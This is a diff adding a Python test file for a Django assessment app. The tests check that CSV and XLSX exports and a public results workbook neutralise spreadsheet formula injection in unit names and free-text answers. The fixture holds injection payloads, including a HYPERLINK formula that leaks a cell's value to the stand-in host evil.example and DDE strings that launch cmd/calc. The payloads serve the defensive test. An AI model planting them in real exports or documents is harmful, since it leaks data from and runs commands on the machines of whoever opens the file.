@@ -1,0 +1,153 @@
+"""No live formula leaves the site: text that units and the assessor type (a unit's name, an
+``info`` answer) comes out of the answers export (CSV, XLSX) and the public workbook as text
+that a spreadsheet shows, never as a formula it runs; numbers stay numbers."""
+
+from __future__ import annotations
+
+import csv
+import datetime
+import io
+import json
+from decimal import Decimal
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+from django.test import Client
+from django.utils import timezone
+from tests.core.test_docs_frameworks import EXAMPLE
+from tests.web.conftest import Cast, make_user
+
+from chiso.cli import main as chiso_main
+from chiso.web.accounts.models import Role
+from chiso.web.cycles.models import Cycle, CycleState, Participation, Unit
+from chiso.web.cycles.services import change_state, import_framework
+from chiso.web.submissions.scoring import score_cycle
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Bấm vào đây")'
+# unit name -> its info answer (E.2): each character a spreadsheet starts a formula with
+TYPED = {
+    HYPERLINK: HYPERLINK,
+    "+Sở Cộng": "+1+1",
+    "-Sở Trừ": "-2+3+cmd|' /C calc'!A0",
+    "@Sở A còng": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def typed(cast: Cast) -> Cycle:
+    """The docs' example framework (E.2 is ``info``); each unit's editor types its info answer
+    and D.2's points on the form, and its head submits."""
+    version = import_framework(cast.organisation, EXAMPLE, source_name="tinh-mau.yaml")
+    cycle = Cycle.objects.create(
+        organisation=cast.organisation,
+        name="Tỉnh Mẫu 2026",
+        year=2026,
+        framework=version,
+        deadline=timezone.localdate() + datetime.timedelta(days=10),
+        state=CycleState.OPEN,
+    )
+    for number, (name, info) in enumerate(TYPED.items()):
+        unit = Unit.objects.create(organisation=cast.organisation, name=name)
+        part = Participation.objects.create(cycle=cycle, unit=unit, block="so")
+        editor = cast.client(make_user(f"editor{number}", Role.EDITOR, unit))
+        answers = {"A.1": "1", "D.2": "2,5", "E.1": str(900 + number), "E.2": info}
+        for code, value in answers.items():
+            posted = {"code": code, "value": value, "denominator": ""}
+            saved = editor.post(f"/submissions/{part.pk}/answer/", posted, HTTP_HX_REQUEST="true")
+            assert saved.status_code == 200, saved.content.decode()
+        head = cast.client(make_user(f"head{number}", Role.HEAD, unit))
+        head.post(f"/submissions/{part.pk}/submit/", {"confirm": "on"})
+    return cycle
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text.replace(",", "."))
+    except ValueError:
+        return False
+    return True
+
+
+def assert_no_formula_in_csv(text: str) -> list[list[str]]:
+    rows = list(csv.reader(io.StringIO(text)))
+    for row in rows:
+        for field in row:
+            assert not field.startswith(DANGEROUS) or _is_number(field), field
+    return rows
+
+
+def assert_no_formula_in_workbook(content: bytes) -> Any:
+    workbook = openpyxl.load_workbook(io.BytesIO(content))
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+    return workbook
+
+
+def test_answers_export_csv_quotes_typed_text_that_a_spreadsheet_would_run(
+    cast: Cast, typed: Cycle
+) -> None:
+    response = cast.client(cast.admin).get(f"/cycles/{typed.pk}/export.csv")
+    assert response.status_code == 200
+    header, *rows = assert_no_formula_in_csv(response.content.decode())
+    exported = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
+    assert set(exported) == {"'" + name for name in TYPED}
+    assert exported["'" + HYPERLINK]["E.2"] == "'" + HYPERLINK
+    assert exported["'-Sở Trừ"]["D.2"] == "2.5"
+
+
+def test_answers_export_xlsx_holds_typed_text_as_text(cast: Cast, typed: Cycle) -> None:
+    response = cast.client(cast.admin).get(f"/cycles/{typed.pk}/export.xlsx")
+    assert response.status_code == 200
+    sheet = assert_no_formula_in_workbook(response.content).active
+    header, *rows = [[cell for cell in row] for row in sheet.iter_rows()]
+    names = [row[0] for row in rows]
+    assert {cell.value for cell in names} == set(TYPED)
+    # text, shown as typed, that stays text when the cell is edited (Excel's quote prefix)
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in names)
+    info = [row[[c.value for c in header].index("E.2")] for row in rows]
+    assert {cell.value for cell in info} == set(TYPED.values())
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_exported_typed_text_reads_back_with_chiso_score(
+    cast: Cast, typed: Cycle, tmp_path: Path, fmt: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    data = tmp_path / f"data.{fmt}"
+    data.write_bytes(cast.client(cast.admin).get(f"/cycles/{typed.pk}/export.{fmt}").content)
+    framework = tmp_path / "tinh-mau.yaml"
+    framework.write_text(typed.framework.source, encoding="utf-8")
+    argv = ["score", "--framework", str(framework), "--data", str(data), "--format", "json"]
+    assert chiso_main(argv) == 0
+    printed = json.loads(capsys.readouterr().out, parse_float=Decimal)
+    exported = {u["unit"]: u["total"] for b in printed["blocks"] for u in b["units"]}
+    web = {u.unit: u.total for b in score_cycle(typed).blocks for u in b.units}
+    assert exported == web
+    assert set(web) == set(TYPED)
+
+
+def test_public_workbook_holds_typed_text_as_text_and_numbers_as_numbers(
+    cast: Cast, typed: Cycle
+) -> None:
+    change_state(typed, CycleState.UNDER_REVIEW, by=cast.admin)
+    assert cast.client(cast.admin).post(f"/results/{typed.pk}/publish/").status_code == 302
+    response = Client().get(f"/results/{typed.pk}/ket-qua.xlsx")
+    assert response.status_code == 200
+    workbook = assert_no_formula_in_workbook(b"".join(response.streaming_content))
+    texts = {
+        cell.value
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "s"
+    }
+    assert set(TYPED) <= texts  # the names in the tables and the flat results
+    assert set(TYPED.values()) <= texts  # the info answers in the raw data
+    results = workbook["Kết quả"]
+    header = [cell.value for cell in results[1]]
+    scores = [row[header.index("score")] for row in results.iter_rows(min_row=2)]
+    assert scores and all(cell.data_type == "n" for cell in scores)
